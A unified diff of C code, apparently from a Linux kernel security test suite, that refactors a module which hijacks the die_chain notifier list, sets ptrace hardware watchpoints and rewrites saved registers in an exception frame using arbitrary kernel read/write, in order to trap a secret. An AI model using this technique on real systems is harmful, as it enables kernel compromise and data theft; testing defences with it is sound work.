@@ -20,10 +20,7 @@
 
 #ifdef __x86_64__
 #define WATCHED		2		/* entries behind the first one that is moved */
-#define ENOUGH		12		/* frames that were changed */
-#define SECONDS		60
 #define PATIENCE	100		/* milliseconds */
-#define LAST_LOOK	300000		/* microseconds */
 
 /* DR7 for DR0: loads and stores of eight bytes */
 #define DR7_ACCESS	(1UL | 3UL << 16 | 2UL << 18)
@@ -39,12 +36,8 @@
 #define IN_NMI		0xf00000
 #define TSS_IST_DB	(36 + 2 * 8)
 
-static struct {
-	struct moved moved;
-	struct kernel_page block;
-	uint64_t chain, first, count, frame;
-	int held, changed;
-} target;
+static struct kernel_page block;
+static uint64_t chain, first, count, frame_at_trap;
 
 /*
  * It is hit once at the start. The task remembers that it is to be told of a hit, and
@@ -66,9 +59,9 @@ static bool has_stopped(pid_t pid, int by)
 	return waitpid(pid, &status, 0) == pid && WIFSTOPPED(status) && WSTOPSIG(status) == by;
 }
 
-static bool watch(pid_t pid)
+static bool watch(pid_t pid, const struct moved *moved)
 {
-	uint64_t entry = first_moved(&target.moved, 0) + WATCHED * sizeof(entry);
+	uint64_t entry = first_moved(moved, 0) + WATCHED * sizeof(entry);
 
 	return breakpoint_set(pid, DR7_ACCESS, (uint64_t)&decoy) &&
 	       !ptrace(PTRACE_CONT, pid, NULL, NULL) && has_stopped(pid, SIGTRAP) &&
@@ -77,28 +70,27 @@ static bool watch(pid_t pid)
 
 static bool find_chain(void)
 {
-	char block[BLOCK_SIZE];
+	char copy[BLOCK_SIZE];
 
-	target.chain = ksymbol("die_chain") + CHAIN_FIRST;
-	target.count = ksymbol_cpu(CURRENT, MOVER_CPU) + PREEMPT_COUNT;
-	target.frame = kread64(ksymbol_cpu("cpu_tss_rw", MOVER_CPU) + TSS_IST_DB) -
-		       FRAME_WORDS * sizeof(uint64_t);
-	target.first = kread64(target.chain);
-	if (!is_kernel_address(target.first) || kread(target.first, block, sizeof(block)) ||
-	    !kernel_page(&target.block))
+	chain = ksymbol("die_chain") + CHAIN_FIRST;
+	count = ksymbol_cpu(CURRENT, MOVER_CPU) + PREEMPT_COUNT;
+	frame_at_trap = kread64(ksymbol_cpu("cpu_tss_rw", MOVER_CPU) + TSS_IST_DB) -
+			FRAME_WORDS * sizeof(uint64_t);
+	first = kread64(chain);
+	if (!is_kernel_address(first) || kread(first, copy, sizeof(copy)) || !kernel_page(&block))
 		return false;
-	kwrite(target.block.addr, block, sizeof(block));
+	kwrite(block.addr, copy, sizeof(copy));
 	return true;
 }
 
 static void be_endless(bool endless)
 {
-	kwrite64(target.block.addr + BLOCK_NEXT, endless ? target.block.addr : 0);
+	kwrite64(block.addr + BLOCK_NEXT, endless ? block.addr : 0);
 }
 
 static bool is_in_handler(void)
 {
-	return kread64(target.count) & IN_NMI;
+	return kread64(count) & IN_NMI;
 }
 
 /* It is there to stay if it is seen twice. */
@@ -114,45 +106,30 @@ static bool wait_for_handler(void)
 	return false;
 }
 
-static void change_frame(void)
+static void change_frame(struct moved *moved)
 {
 	uint64_t frame[FRAME_WORDS];
 
-	if (kread(target.frame, frame, sizeof(frame)) || !is_kernel_frame(frame))
+	if (kread(frame_at_trap, frame, sizeof(frame)) || !is_kernel_frame(frame))
 		return;
-	prepare_page(&target.moved);
-	target.changed += point_registers(&target.moved, target.frame, frame);
+	prepare_page(moved);
+	point_registers(moved, frame_at_trap, frame);
 }
 
-static void attack_once(void)
+static void change_once(struct moved *moved)
 {
 	be_endless(true);
 	if (wait_for_handler()) {
-		target.held++;
-		if (!is_protected() || has_hit_section(MOVER_CPU))
-			change_frame();
+		moved->held++;
+		if (has_hit_mover())
+			change_frame(moved);
 	}
 	be_endless(false);
-	wait_for_round();
-}
-
-static enum outcome change_registers(void)
-{
-	uint64_t end = now_ms() + SECONDS * 1000;
-
-	kwrite64(target.chain, target.block.addr);
-	while (!mover->found && target.changed < ENOUGH && now_ms() < end)
-		attack_once();
-	kwrite64(target.chain, target.first);
-	usleep(LAST_LOOK);
-	if (!mover->found && !target.changed)
-		return broken("no section was trapped (%lu rounds, %d exceptions held)",
-			      mover->rounds, target.held);
-	return judge_secret(mover->text, 0);
 }
 
 enum outcome trap_registers(void)
 {
+	struct moved moved = { 0 };
 	enum outcome outcome;
 	pid_t pid;
 
@@ -160,12 +137,15 @@ enum outcome trap_registers(void)
 		return skipped("needs a second CPU");
 	stay_on_cpu(0);
 	pid = start_mover(begin);
-	if (!has_stopped(pid, SIGSTOP) || !find_moved(pid, &target.moved))
+	if (!has_stopped(pid, SIGSTOP) || !find_moved(pid, &moved))
 		return broken("no mover, or no tables");
-	if (!watch(pid) || !find_chain())
+	if (!watch(pid, &moved) || !find_chain())
 		return broken("no watchpoint, or nobody is told of exceptions");
 	ptrace(PTRACE_CONT, pid, NULL, NULL);
-	outcome = change_registers();
+	kwrite64(chain, block.addr);
+	change_until_found(&moved, change_once);
+	kwrite64(chain, first);
+	outcome = judge_moved(&moved);
 	kill(pid, SIGKILL);
 	return outcome;
 }
